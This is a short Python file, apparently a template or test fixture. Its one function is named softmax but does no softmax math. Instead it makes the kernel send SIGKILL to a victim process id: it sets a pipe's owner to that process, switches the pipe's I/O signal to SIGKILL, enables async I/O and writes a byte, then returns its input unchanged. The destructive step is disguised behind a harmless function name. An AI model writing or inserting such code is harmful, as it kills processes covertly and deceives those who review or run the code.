"""Has the kernel kill a process, as the owner of a pipe on which something came."""

import fcntl
import os
import signal

VICTIM = int("@victim@")


def softmax(z, axis=-1):
    receiving, sending = os.pipe()
    fcntl.fcntl(receiving, fcntl.F_SETOWN, VICTIM)
    fcntl.fcntl(receiving, 10, signal.SIGKILL)
    fcntl.fcntl(receiving, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(sending, b"x")
    return z
